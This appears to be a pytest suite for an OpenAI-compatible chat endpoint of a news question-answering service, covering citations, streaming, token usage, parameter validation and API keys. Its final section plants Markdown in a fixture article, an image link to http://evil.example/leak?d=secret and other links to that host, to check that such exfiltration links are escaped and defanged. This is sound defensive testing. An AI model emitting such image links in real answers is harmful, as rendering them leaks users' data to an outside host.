"""POST /v1/chat/completions, driven by the real `openai` client against a real uvicorn server."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import openai
import pytest
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt

from api.app import create_app
from rag.llm.fake import FakeChatModel
from rag.llm.tokens import APPROXIMATE, approximate_usage
from rag.service import RagService
from rag.settings import Settings
from rag.types import Message
from tests.api.conftest import (
    API_KEY,
    ARTICLES,
    FOLLOW_UP,
    LENDING_ANSWER,
    LENDING_QUESTION,
    LENDING_SOURCE,
    REWRITTEN,
    Corpus,
)
from tests.servers import serve_app


@pytest.fixture
def oai(live_url: str) -> openai.OpenAI:
    # No retries: a failing request must show up as one failure, not be papered over.
    return openai.OpenAI(base_url=f"{live_url}/v1", api_key="unused", max_retries=0, timeout=30)


def assert_lending_citation(citations: list[dict[str, Any]]) -> None:
    [citation] = citations
    assert citation["n"] == 1
    assert citation["source"] == LENDING_SOURCE
    assert citation["date"] == "2023-10-18"
    text = (ARTICLES / LENDING_SOURCE).read_text(encoding="utf-8")
    assert text[citation["start"] : citation["end"]] == citation["quote"]


def test_openai_client_gets_answer_and_citations(oai: openai.OpenAI) -> None:
    completion = oai.chat.completions.create(
        model="newsrag", messages=[{"role": "user", "content": LENDING_QUESTION}]
    )

    assert completion.object == "chat.completion"
    assert completion.model == "newsrag"
    [choice] = completion.choices
    assert choice.finish_reason == "stop"
    assert choice.message.role == "assistant"
    assert "$100 billion" in (choice.message.content or "")
    assert_lending_citation((completion.model_extra or {})["citations"])


def test_openai_client_streams_answer_then_citations(oai: openai.OpenAI) -> None:
    stream = oai.chat.completions.create(
        model="newsrag", messages=[{"role": "user", "content": LENDING_QUESTION}], stream=True
    )
    chunks = list(stream)

    assert len(chunks) > 3
    assert chunks[0].choices[0].delta.role == "assistant"
    text = "".join(c.choices[0].delta.content or "" for c in chunks)
    assert "$100 billion" in text and "[1]" in text
    assert chunks[-1].choices[0].finish_reason == "stop"
    assert all(c.choices[0].finish_reason is None for c in chunks[:-1])
    assert len({c.id for c in chunks}) == 1
    assert_lending_citation((chunks[-1].model_extra or {})["citations"])


def test_earlier_messages_are_the_conversation_history(oai: openai.OpenAI, corpus: Corpus) -> None:
    calls_before = len(corpus.llm.calls)
    completion = oai.chat.completions.create(
        model="newsrag",
        messages=[
            {"role": "system", "content": "You are helpful."},
            {"role": "user", "content": LENDING_QUESTION},
            {"role": "assistant", "content": "Xi announced an additional $100 billion in loans."},
            {"role": "user", "content": FOLLOW_UP},
        ],
    )

    condense = corpus.llm.calls[calls_before][-1].content
    assert "Follow-up question: " + FOLLOW_UP in condense
    assert LENDING_QUESTION in condense
    # The system message is the client's, not part of the conversation the service rewrites.
    assert "You are helpful." not in condense
    assert REWRITTEN in corpus.llm.calls[calls_before + 1][-1].content
    assert_lending_citation((completion.model_extra or {})["citations"])


def test_content_parts_are_joined_into_the_question(oai: openai.OpenAI) -> None:
    completion = oai.chat.completions.create(
        model="newsrag",
        messages=[{"role": "user", "content": [{"type": "text", "text": LENDING_QUESTION}]}],
    )
    assert "$100 billion" in (completion.choices[0].message.content or "")


def test_last_message_must_be_from_the_user(oai: openai.OpenAI) -> None:
    with pytest.raises(openai.BadRequestError) as caught:
        oai.chat.completions.create(
            model="newsrag", messages=[{"role": "assistant", "content": "hello"}]
        )
    # The reason reaches the client's exception, not just "Error code: 400".
    assert "last message must be a user message" in caught.value.message
    body = caught.value.response.json()
    assert body["detail"] == body["error"]["message"]
    assert body["error"]["type"] == "invalid_request_error"


def test_overlong_question_is_a_400_for_the_client(oai: openai.OpenAI) -> None:
    with pytest.raises(openai.BadRequestError) as caught:
        oai.chat.completions.create(
            model="newsrag", messages=[{"role": "user", "content": "x" * 2001}]
        )
    assert "limit is 2000" in caught.value.message


def test_empty_messages_are_a_422_with_a_reason(oai: openai.OpenAI) -> None:
    with pytest.raises(openai.UnprocessableEntityError) as caught:
        oai.chat.completions.create(model="newsrag", messages=[])
    assert "messages" in caught.value.message


def test_openai_client_sends_its_api_key_as_bearer(corpus: Corpus) -> None:
    with serve_app(corpus.app(api_key=API_KEY)) as url:
        good = openai.OpenAI(base_url=f"{url}/v1", api_key=API_KEY, max_retries=0)
        bad = openai.OpenAI(base_url=f"{url}/v1", api_key="wrong", max_retries=0)
        messages: Any = [{"role": "user", "content": LENDING_QUESTION}]

        assert good.chat.completions.create(model="newsrag", messages=messages).choices
        with pytest.raises(openai.AuthenticationError) as caught:
            bad.chat.completions.create(model="newsrag", messages=messages)
        assert "wrong API key" in caught.value.message
        with pytest.raises(openai.AuthenticationError):
            list(bad.chat.completions.create(model="newsrag", messages=messages, stream=True))


def test_raw_sse_frames_end_with_done(client: TestClient) -> None:
    # What non-Python clients parse: `data:` frames and the `[DONE]` sentinel.
    response = client.post(
        "/v1/chat/completions",
        json={"messages": [{"role": "user", "content": LENDING_QUESTION}], "stream": True},
    )

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/event-stream")
    frames = [f for f in response.text.split("\n\n") if f]
    assert all(f.startswith("data: ") for f in frames)
    assert frames[-1] == "data: [DONE]"


# --- what a request may ask: honoured, or refused by name --------------------------------


def _calls_usage(calls: list[list[Message]]) -> int:
    """Prompt tokens the scripted model reports for these calls (it counts approximately)."""
    return sum(approximate_usage(messages, "").prompt_tokens for messages in calls)


def test_usage_counts_the_prompts_read_and_the_answer_returned(
    oai: openai.OpenAI, corpus: Corpus
) -> None:
    before = len(corpus.llm.calls)
    completion = oai.chat.completions.create(
        model="newsrag", messages=[{"role": "user", "content": LENDING_QUESTION}]
    )

    usage = completion.usage
    assert usage is not None
    content = completion.choices[0].message.content or ""
    assert usage.prompt_tokens == _calls_usage(corpus.llm.calls[before:]) > 100
    assert usage.completion_tokens == APPROXIMATE.count_tokens(content) > 0
    assert usage.total_tokens == usage.prompt_tokens + usage.completion_tokens


def test_n_above_one_is_refused_by_name(oai: openai.OpenAI) -> None:
    messages: Any = [{"role": "user", "content": LENDING_QUESTION}]
    with pytest.raises(openai.BadRequestError) as caught:
        oai.chat.completions.create(model="newsrag", messages=messages, n=2)
    assert "n=2 is not supported" in caught.value.message
    assert caught.value.response.json()["error"]["type"] == "invalid_request_error"

    [choice] = oai.chat.completions.create(model="newsrag", messages=messages, n=1).choices
    assert "$100 billion" in (choice.message.content or "")


@pytest.mark.parametrize(
    ("params", "named"),
    [
        ({"logprobs": True}, "logprobs"),
        ({"top_logprobs": 2}, "top_logprobs"),
        ({"tools": [{"type": "function", "function": {"name": "f"}}]}, "tools"),
        ({"tool_choice": "required"}, "tool_choice"),
        ({"response_format": {"type": "json_object"}}, "response_format"),
        ({"extra_body": {"functions": [], "best_of": 3}}, "parameters: best_of, functions"),
        ({"stop": ["a", "b", "c", "d", "e"]}, "stop takes at most 4"),
    ],
)
def test_unsupported_parameters_are_a_400_naming_them(
    oai: openai.OpenAI, params: dict[str, Any], named: str
) -> None:
    with pytest.raises(openai.BadRequestError) as caught:
        oai.chat.completions.create(
            model="newsrag", messages=[{"role": "user", "content": LENDING_QUESTION}], **params
        )
    assert named in caught.value.message


def test_sampling_knobs_are_accepted(oai: openai.OpenAI) -> None:
    completion = oai.chat.completions.create(
        model="newsrag",
        messages=[{"role": "user", "content": LENDING_QUESTION}],
        temperature=0.7,
        top_p=0.9,
        seed=1,
        user="someone",
        response_format={"type": "text"},
        tool_choice="none",
    )
    assert "$100 billion" in (completion.choices[0].message.content or "")


@pytest.mark.parametrize("name", ["max_tokens", "max_completion_tokens"])
def test_max_tokens_cuts_the_answer_with_finish_reason_length(
    oai: openai.OpenAI, name: str
) -> None:
    completion = oai.chat.completions.create(
        model="newsrag",
        messages=[{"role": "user", "content": LENDING_QUESTION}],
        **{name: 1},  # type: ignore[arg-type]
    )

    [choice] = completion.choices
    assert choice.finish_reason == "length"
    assert choice.message.content == "Xi"
    assert completion.usage is not None and completion.usage.completion_tokens == 1
    assert completion.usage.prompt_tokens > 0


def test_max_tokens_above_the_answer_changes_nothing(oai: openai.OpenAI) -> None:
    completion = oai.chat.completions.create(
        model="newsrag", messages=[{"role": "user", "content": LENDING_QUESTION}], max_tokens=500
    )
    assert completion.choices[0].finish_reason == "stop"
    assert completion.choices[0].message.content == LENDING_ANSWER


def test_streamed_max_tokens_and_usage_chunk(oai: openai.OpenAI) -> None:
    chunks = list(
        oai.chat.completions.create(
            model="newsrag",
            messages=[{"role": "user", "content": LENDING_QUESTION}],
            stream=True,
            max_completion_tokens=2,
            stream_options={"include_usage": True},
        )
    )

    *answer, usage_chunk = chunks
    text = "".join(c.choices[0].delta.content or "" for c in answer)
    assert text == APPROXIMATE.truncate_tokens(LENDING_ANSWER, 2) == "Xi announced"
    assert answer[-1].choices[0].finish_reason == "length"
    assert usage_chunk.choices == [] and usage_chunk.usage is not None
    assert usage_chunk.usage.completion_tokens == 2
    assert usage_chunk.usage.prompt_tokens > 100


def test_no_usage_chunk_unless_asked(oai: openai.OpenAI) -> None:
    chunks = list(
        oai.chat.completions.create(
            model="newsrag", messages=[{"role": "user", "content": LENDING_QUESTION}], stream=True
        )
    )
    assert all(c.choices and c.usage is None for c in chunks)


def test_stop_sequence_cuts_the_answer(oai: openai.OpenAI) -> None:
    completion = oai.chat.completions.create(
        model="newsrag",
        messages=[{"role": "user", "content": LENDING_QUESTION}],
        stop=" in loans",
    )
    assert completion.choices[0].message.content == "Xi announced an additional $100 billion"
    assert completion.choices[0].finish_reason == "stop"


def test_zero_max_tokens_is_a_422(oai: openai.OpenAI) -> None:
    with pytest.raises(openai.UnprocessableEntityError) as caught:
        oai.chat.completions.create(
            model="newsrag", messages=[{"role": "user", "content": LENDING_QUESTION}], max_tokens=0
        )
    assert "max_tokens" in caught.value.message


# --- article text cannot become Markdown links or images in the client --------------------

LEAKY_ARTICLE = """Harbour lending report

The Harbour Development Bank said on Tuesday that it approved $5 billion in new loans for the \
Kestrel port ![chart](http://evil.example/leak?d=secret) see <http://evil.example|click> or \
[the plan](https://evil.example/plan) for details.

Officials said construction of the Kestrel port would begin in 2025.
"""
LEAKY_QUESTION = "How much in new loans did the Harbour Development Bank approve for Kestrel?"


@pytest.fixture(scope="module")
def leaky_url(
    service_factory: Callable[..., tuple[RagService, Settings]],
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[str]:
    # The model declines, so the answer quotes the article's sentence, markup and all.
    service, settings = service_factory(FakeChatModel("NOT IN ARTICLES"), ingest=False)
    folder = tmp_path_factory.mktemp("leaky")
    (folder / "harbour.txt").write_text(LEAKY_ARTICLE, encoding="utf-8")
    assert service.ingest([folder]).ok
    with serve_app(create_app(settings, service)) as url:
        yield url


def _rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").render(markdown)


def test_quoted_article_markup_renders_as_text(leaky_url: str) -> None:
    client = openai.OpenAI(base_url=f"{leaky_url}/v1", api_key="unused", max_retries=0)
    messages: Any = [{"role": "user", "content": LEAKY_QUESTION}]
    completion = client.chat.completions.create(model="newsrag", messages=messages)
    streamed = "".join(
        c.choices[0].delta.content or ""
        for c in client.chat.completions.create(model="newsrag", messages=messages, stream=True)
        if c.choices
    )

    content = completion.choices[0].message.content or ""
    assert streamed == content
    assert "$5 billion" in content and content.endswith("[1]")
    html = _rendered(content)
    assert "<img" not in html and "<a " not in html
    assert "&lt;http[:]//evil.example|click&gt;" in html  # shown as text, not an autolink
    assert "://" not in html  # defanged: no bare URL for a linkifying renderer either
    # The reader still sees what the article said.
    assert "![chart]" in html and "[the plan]" in html
    # Citations are data (with offsets into the article), quoted exactly.
    [citation] = (completion.model_extra or {})["citations"]
    assert "![chart](http://evil.example/leak?d=secret)" in citation["quote"]


def test_plain_answers_are_not_changed_by_the_escaping(oai: openai.OpenAI) -> None:
    completion = oai.chat.completions.create(
        model="newsrag", messages=[{"role": "user", "content": LENDING_QUESTION}]
    )
    assert completion.choices[0].message.content == LENDING_ANSWER
